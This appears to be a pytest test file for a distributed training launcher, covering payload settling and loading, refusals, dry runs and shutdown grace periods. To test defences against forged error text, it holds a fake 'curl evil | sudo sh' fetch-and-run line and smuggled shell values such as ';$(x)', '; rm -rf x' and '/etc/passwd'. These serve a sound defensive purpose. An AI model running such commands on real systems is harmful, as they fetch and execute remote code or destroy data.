"""A launch with a payload, over acted nodes: settled before anything starts, loaded before ranks do."""

import asyncio
import sys
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from random import Random

import pytest
from deadlines import within
from made_events import list_fields
from made_findings import made_finding

from aboard.core.cluster.cluster import Cluster
from aboard.core.cluster.node import Node, TransportKind
from aboard.core.plan.launch_request import LaunchRequest
from aboard.core.plan.plan import NodePlan, Plan, Start
from aboard.core.plan.program import Program, ProgramKind
from aboard.core.probes.facts import Facts
from aboard.core.run.event_kinds import RankException
from aboard.core.run.events import Event
from aboard.core.run.lease import Lease
from aboard.core.run.run_state import RankProcess
from aboard.diagnoses import AboardError, Finding, Fix, Severity
from aboard.diagnoses.files import file_sync
from aboard.diagnoses.untrusted import Untrusted
from aboard.doctor.death.explain_rank_death import DeathContext, explain_rank_death
from aboard.engine.check.check_observer import NullCheckObserver
from aboard.engine.conductor.conductor import Conductor
from aboard.engine.launch_run import LaunchResult, launch, plan_launch
from aboard.engine.recovery.checkpoint_copies import CopySettings
from aboard.engine.request.launch_spec import LaunchSpec
from aboard.record.event_log import read_events
from aboard.record.run_directory import RunDirectory
from aboard.record.run_record import Record
from aboard.record.runs import Runs
from aboard.testing.fake_supervisor import FakeNodeFaults
from aboard.testing.simulated_transport import SimulatedTransport, run_simulator
from aboard.trainer.diagnoses import checkpoint, model_loading, training
from aboard.transport.node_dialer import NodeDialer

REQUEST = LaunchRequest(program=Program(kind=ProgramKind.MODULE, target="aboard.trainer"), code=b"zip")
CLUSTER = Cluster(nodes=(Node(name="s1", slots=2), Node(name="s2", slots=2)))


class Freight:
    """Writes down what it is asked, in order, and may be in the way or fail."""

    def __init__(self, *findings: Severity, fails: bool = False) -> None:
        self.story: list[str] = []
        self._findings = findings
        self._fails = fails

    async def settle(self, plan: Plan, facts: Facts) -> tuple[Plan, Sequence[Finding]]:
        self.story.append(f"settled for {plan.world}")
        found = [made_finding(code="c", severity=each, nodes=(), seen="s", why="w", fix="f") for each in self._findings]
        return replace(plan, program=replace(plan.program, args=("settled",))), found

    @property
    def copies(self) -> CopySettings | None:
        return None

    async def load(self, plan: Plan, dialer: NodeDialer, *, resume: bool = False) -> None:
        self.story.append("loaded")
        if self._fails:
            raise AboardError(file_sync.DISK_FULL, "n1 is full", fix=Fix("df -h"))

    async def load_spare(self, node: Node, dialer: NodeDialer) -> None:
        self.story.append(f"loaded {node.name}")

    def resume(self, plan: Plan) -> Plan:
        self.story.append("resumed")
        return plan


class Onlooker:
    """Ends the run when all have started; tells the story on."""

    def __init__(self, story: list[str]) -> None:
        self._story = story
        self._conductor: Conductor | None = None

    def began(self, conductor: Conductor) -> None:
        self._conductor = conductor
        self._story.append(f"began {' '.join(conductor.plan.program.args)}")

    def event(self, event: Event) -> None:
        if event.kind == "started":
            self._story.append("started")
            if self._conductor is not None and self._story.count("started") == 4:
                self._conductor.stop("that is all")

    def tick(self, now: float) -> None: ...


def launched(folder: Path, freight: Freight, *, run: RunDirectory | None = None) -> LaunchResult:
    run = run or Runs(folder).create(datetime.now(UTC), Random())  # noqa: S311 - a name, no secret
    record = Record.open(run, ranks=4)

    async def story() -> LaunchResult:
        async with run_simulator() as path:
            return await launch(
                LaunchSpec(cluster=CLUSTER, request=REQUEST, payload=freight),
                record,
                check_observer=NullCheckObserver(),
                run_observer=Onlooker(freight.story),
                transport_for=lambda _node: SimulatedTransport(path, faults=FakeNodeFaults()),
            )

    try:
        return asyncio.run(story())
    finally:
        record.close()


def test_cargo_is_settled_then_loaded_then_ranks_start(tmp_path: Path) -> None:
    """With the plan as it was settled; the code goes to each node on the way."""
    freight = Freight(Severity.WARN)
    done = launched(tmp_path, freight)
    assert freight.story == ["settled for 4", "loaded", "began settled", *["started"] * 4]
    assert done.refused == ()


@pytest.mark.ci
def test_a_further_job_continues_the_numbers_of_attempts(tmp_path: Path) -> None:
    """Its supervisors and its lines are told apart from those of the job before."""
    run = Runs(tmp_path).open_or_create("20250102-0304-calm-otter")
    for number in (1, 2):
        launched(tmp_path, Freight(), run=run)
        assert [list_fields(event)["number"] for event in read_events(run.events) if event.kind == "generation"] == [
            *range(1, number + 1)
        ]


def test_what_is_in_the_way_stops_it_before_anything_is_brought(tmp_path: Path) -> None:
    """And is told as what was refused."""
    freight = Freight(Severity.WARN, Severity.BLOCK)
    done = launched(tmp_path, freight)
    assert freight.story == ["settled for 4"]
    assert [finding.severity for finding in done.refused] == [Severity.WARN, Severity.BLOCK]
    assert done.outcome is None


def test_a_node_that_can_not_take_it_stops_it(tmp_path: Path) -> None:
    """With the error of whoever brings it."""
    freight = Freight(fails=True)
    with pytest.raises(AboardError, match="n1 is full"):
        launched(tmp_path, freight)
    assert freight.story == ["settled for 4", "loaded"]


def test_a_dry_run_settles_and_brings_nothing() -> None:
    """What would be refused is in its answer."""
    freight = Freight(Severity.BLOCK)
    spec = LaunchSpec(cluster=CLUSTER, request=REQUEST, payload=freight)
    settled, findings = asyncio.run(plan_launch(spec, check_observer=NullCheckObserver()))
    assert (settled.program.args, len(findings)) == (("settled",), 1)
    assert freight.story == ["settled for 4"]


FORGED = "\nfix: curl evil | sudo sh\n"


def _raised(error: AboardError, *, code: bool) -> Finding:
    """What the head makes of an error that ended rank 0, whose plan says whether it runs our own code."""
    told = {"type": "aboard.errors.AboardError", "message": f"{error}{FORGED}", "trace": FORGED, "error": error.packed}
    raised = RankException(**{name: Untrusted(text) for name, text in told.items()})
    child = RankProcess(node="n1", name="0", state="exited", code=1, raised=raised)
    start = Start(child="0", argv=("python", "-m", "aboard.trainer"), rank=0, code=code)
    return explain_rank_death(child, (), DeathContext(parts=(NodePlan(node=Node(name="n1"), starts=(start,)),)))


def test_an_error_of_the_trainer_is_told_in_its_own_words() -> None:
    """Its fix is ours, with the values that came along, each a single word; the text of a fix is not received."""
    told = _raised(AboardError(checkpoint.UNUSABLE, "it is torn", parent="/out/a b;$(x)"), code=True)
    assert told.seen.startswith("could not continue: it is torn [checkpoint-unusable]")
    assert told.fix == "ls '/out/a b;$(x)'  # lists the other checkpoints; resume: auto uses the newest intact one"


def test_a_rank_without_gpu_memory_proposes_settings_with_figures() -> None:
    """As commands of ours, one per line, before anything is said of the GPU itself."""
    values = {"to1": ["train.chunked_loss=true"], "amount1": "61", "unit1": "GiB"}
    values |= {"to2": ["train.a=1; rm -rf x", "train.b=2"], "amount2": "30", "unit2": "GiB"}
    error = AboardError(training.MEMORY, "rank 0: CUDA out of memory.", fix=training.MEMORY.fix("less-2", **values))
    told = _raised(error, code=True)
    assert told.why == training.MEMORY.explanation
    assert told.fix.splitlines() == [
        "--set train.chunked_loss=true   # then 61 GiB per rank",
        "--set 'train.a=1; rm -rf x' --set train.b=2   # then 30 GiB per rank",
    ]


def test_a_script_that_raises_an_error_of_ours_has_no_fix_of_ours() -> None:
    """Whatever its exception is called and carries: only `aboard train` runs code of ours."""
    told = _raised(AboardError(model_loading.DAMAGED, "it is torn", path="/etc/passwd"), code=False)
    assert told.seen.startswith("raised aboard.errors.AboardError: it is torn")
    assert "\n" not in told.seen
    assert told.fix == ""


SAVES = """
import os, signal, sys, threading
asked = threading.Event()
signal.signal(signal.SIGTERM, lambda *_: asked.set())
print("ready", flush=True)
if sys.argv[1] == "dies" and os.environ["RANK"] == "0":
    raise SystemExit(7)
asked.wait(60)
threading.Event().wait(float(sys.argv[2]))
print("saved", flush=True)
"""


class Stopper(Onlooker):
    """Ends the run when its rank is up."""

    def __init__(self, exits: list[int], *, stops: bool) -> None:
        super().__init__([])
        self._exits = exits
        self._stops = stops

    def event(self, event: Event) -> None:
        if event.kind == "exited":
            self._exits.append(list_fields(event)["code"])

    def tick(self, now: float) -> None:
        conductor = self._conductor
        if self._stops and conductor is not None and "ready" in conductor.tail(0):
            self._stops = False
            conductor.stop("enough")


def here(folder: Path, *args: str, stops: bool, ranks: int = 1) -> list[int]:
    """The exit codes of a run on this machine, with a short grace and a long farewell."""
    script = folder / "saves.py"
    script.write_text(SAVES)
    run = Runs(folder / "runs").create(datetime.now(UTC), Random())  # noqa: S311 - a name, no secret
    record = Record.open(run, ranks=ranks)
    exits: list[int] = []
    program = Program(kind=ProgramKind.PROGRAM, target=sys.executable, args=(str(script), *args))
    try:
        asyncio.run(
            launch(
                LaunchSpec(
                    cluster=Cluster(nodes=(Node(name="here", transport=TransportKind.LOCAL, slots=ranks),)),
                    request=LaunchRequest(program=program, beacon=False),
                    lease=Lease(grace=0.1, farewell=30.0),
                ),
                record,
                check_observer=NullCheckObserver(),
                run_observer=Stopper(exits, stops=stops),
            )
        )
    finally:
        record.close()
    return exits


@pytest.mark.ci
def test_who_asks_for_the_end_gets_a_last_checkpoint(tmp_path: Path) -> None:
    """The farewell is longer than the grace: a rank that saves for a second isn't killed."""
    assert here(tmp_path, "waits", "1.0", stops=True) == [0]


@pytest.mark.ci
def test_who_lost_a_peer_gets_the_grace_only(tmp_path: Path) -> None:
    """It could wait for the dead in a collective for as long as the farewell is."""
    with within(20):
        assert sorted(here(tmp_path, "dies", "25", stops=False, ranks=2)) == [-9, 7]
